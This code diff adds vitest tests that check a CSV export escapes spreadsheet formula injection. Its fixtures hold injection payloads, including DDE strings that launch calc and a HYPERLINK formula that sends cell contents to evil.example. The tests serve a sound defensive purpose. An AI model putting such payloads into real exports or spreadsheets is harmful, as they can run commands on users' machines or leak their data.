@@ -4,7 +4,9 @@ import { stringify } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
 import { InMemoryCustomerState } from '../users/in-memory-customer-state.ts';
 import { emptyUser, type UserState } from '../users/user-state.ts';
-import { EXPORT_HEADERS, userToExportRow } from './export-row.ts';
+import { EXPORT_HEADERS, neutralizeUploadedCell, userToExportRow } from './export-row.ts';
+import { TEXT_FIELDS } from '../users/user-fields.ts';
+import { unescapeFormulaCell } from './parse-cell.ts';
 import { CsvRowPlanner } from './plan-csv-rows.ts';
 import { bytesSource, openCsv } from './read-csv.ts';
 
@@ -71,4 +73,47 @@ describe('userToExportRow', () => {
       USERS.map((user) => [user.email, 'unchanged', []]),
     );
   });
+});
+
+describe('userToExportRow on every free-text column', () => {
+  it('writes no cell a spreadsheet would run as a formula', () => {
+    const user = storedUser('=x@example.com', {
+      ...Object.fromEntries(
+        TEXT_FIELDS.map((field, index) => [field, `${'=+-@'[index % 4]}cmd|' /C calc'!A0`]),
+      ),
+      phoneNumber: '+31 not e164',
+      callerIdNumber: '-1',
+    });
+    const row = userToExportRow(user, { locationName: '@SUM(1+1)', userStatus: 'Active' });
+    expect(row.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+  });
+});
+
+describe('neutralizeUploadedCell', () => {
+  it.each([
+    // [uploaded cell, written back]
+    [
+      '=HYPERLINK("https://evil.example/?leak="&C3,"Click to fix")',
+      `'=HYPERLINK("https://evil.example/?leak="&C3,"Click to fix")`,
+    ],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['-5', "'-5"],
+    ['+31 boss', "'+31 boss"],
+    ['+31201234501', '+31201234501'],
+    ["'+31201234501", '+31201234501'],
+    ["'=already neutralized", "'=already neutralized"],
+    ["''=stored quote", "''=stored quote"],
+    ["'Anna", "'Anna"],
+    ['Anna', 'Anna'],
+    ['', ''],
+  ])('%j is written as %j', (cell, expected) => {
+    expect(neutralizeUploadedCell(cell)).toBe(expected);
+  });
+
+  it.each(['=x', "'=x", "''=x", '@a', '-', '+3120', "'", 'plain', '+31201234501'])(
+    '%j uploaded again is read as the first upload read it',
+    (cell) => {
+      expect(unescapeFormulaCell(neutralizeUploadedCell(cell))).toBe(unescapeFormulaCell(cell));
+    },
+  );
 });
